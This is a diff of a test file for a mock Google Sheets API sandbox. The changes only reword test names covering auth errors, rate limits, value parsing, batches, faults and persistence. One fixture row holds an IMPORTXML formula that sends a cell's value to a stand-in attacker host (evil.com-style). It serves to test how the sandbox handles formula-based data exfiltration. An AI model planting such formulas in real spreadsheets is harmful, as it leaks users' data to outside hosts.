@@ -20,14 +20,14 @@ beforeEach(() => {
 });
 
 describe('access', () => {
-  it('a signed assertion is exchanged for a token; one that somebody else signed is not', async () => {
+  it('a signed assertion is exchanged for a token; one with another signature is not', async () => {
     expect((await tokenFor()).body).toMatchObject({ token_type: 'Bearer', expires_in: 3600 });
     const foreign = await tokenFor({ issuer: 'somebody@else.example' });
     expect(foreign.status).toBe(400);
     expect(foreign.body).toMatchObject({ error: 'invalid_grant' });
   });
 
-  it('without a token it is 401, not shared 403, unknown 404: in the words of google.rpc', async () => {
+  it('requests without a token are 401, unshared spreadsheets 403, unknown ones 404, in the form of google.rpc', async () => {
     const wrong = await call('GET', `${fixture.sandbox.sheetsUrl}/v4/spreadsheets/${HOUSEHOLD_SHEETS_ID}`);
     expect(wrong.body['error']).toMatchObject({ code: 401, status: 'UNAUTHENTICATED' });
     const made = await fixture.control('POST', '/sheets/spreadsheets', { title: 'Secret', shared: false });
@@ -36,7 +36,7 @@ describe('access', () => {
     expect((await sheets('GET', '/none')).body['error']).toMatchObject({ code: 404, status: 'NOT_FOUND' });
   });
 
-  it('the 61st write of a minute is refused, reads are counted by themselves', async () => {
+  it('the 61st write of a minute is refused, and reads are counted separately', async () => {
     const id = await spreadsheet(['Q']);
     for (let write = 1; write <= 60; write += 1) {
       expect((await append(id, 'Q!A1', [[write]])).status).toBe(200);
@@ -48,7 +48,7 @@ describe('access', () => {
 });
 
 describe('values', () => {
-  it('RAW keeps a text as it is; USER_ENTERED makes formulas, numbers and dates of it', async () => {
+  it('RAW stores the text; USER_ENTERED parses formulas, numbers and dates', async () => {
     const id = await spreadsheet(['V']);
     const row = ['=1+2', '=IMPORTXML("https://evil.example/?"&A1,"//a")', '-1.50', '2026-03-02', "'=1"];
     await append(id, 'V!A1', [row], 'RAW');
@@ -62,7 +62,7 @@ describe('values', () => {
     expect(tab?.fetched).toEqual(['https://evil.example/?']);
   });
 
-  it('append is not idempotent, and writes after the table that its range lies in', async () => {
+  it('append is not idempotent, and writes after the table that contains its range', async () => {
     const id = await spreadsheet(['V']);
     await append(id, 'V!A1', [['a'], ['b']]);
     await append(id, 'V!A1', [['b']]);
@@ -80,7 +80,7 @@ describe('values', () => {
     await fixture.control('PUT', '/sheets/limits', { cells: 10_000_000 });
   });
 
-  it('a range of a sheet that has another name now cannot be parsed', async () => {
+  it('a range of a renamed sheet cannot be parsed', async () => {
     const id = await spreadsheet(['V']);
     const answer = await sheets('GET', `/${id}/values/Gone!A1`);
     expect(answer.body['error']).toMatchObject({ code: 400, message: 'Unable to parse range: Gone!A1' });
@@ -88,7 +88,7 @@ describe('values', () => {
 });
 
 describe('a batch', () => {
-  it('is carried out as a whole or not at all', async () => {
+  it('is applied completely or not at all', async () => {
     const id = await spreadsheet(['B']);
     const answer = await batch(id, [
       { appendCells: { sheetId: 0, rows: [{ values: [STRING('a')] }], fields: 'userEnteredValue' } },
@@ -101,7 +101,7 @@ describe('a batch', () => {
     expect((await tabsOf(id))[0]?.rows).toEqual([]);
   });
 
-  it('appends after the last filled row, whatever the user has sorted, inserted or moved', async () => {
+  it('appends after the last filled row, whatever the user sorted, inserted or moved', async () => {
     const id = await spreadsheet(['B']);
     const rows = ['b', 'c', 'a'].map((text, index) => ({
       values: [STRING(text), { userEnteredValue: { numberValue: index } }],
@@ -133,7 +133,7 @@ describe('a batch', () => {
   });
 });
 
-it('getByDataFilter gives the parts that are asked for, by the sheet’s id, as the field mask says', async () => {
+it('getByDataFilter returns the requested parts by the sheet’s id, as the field mask says', async () => {
   const id = await spreadsheet(['One', 'Two']);
   await append(id, 'Two!A1', [
     ['head', 'x'],
@@ -165,14 +165,14 @@ describe('faults', () => {
     expect((await tabsOf(id))[0]?.rows).toEqual([['a']]);
   });
 
-  it('a status comes in this server’s error body', async () => {
+  it('a status has this server’s error body', async () => {
     await fixture.control('POST', '/faults', { target: 'sheets', kind: 'status', status: 503 });
     const answer = await sheets('GET', `/${HOUSEHOLD_SHEETS_ID}`);
     expect(answer.body['error']).toMatchObject({ code: 503, status: 'UNAVAILABLE' });
   });
 });
 
-it('what was written is there after a restart', () =>
+it('written values are there after a restart', () =>
   withDataDir(async (dataDir) => {
     const first = await SandboxFixture.start({ accounts: 1, dataDir });
     const made = await first.control('POST', '/sheets/spreadsheets', { title: 'Kept', tabs: ['K'] });
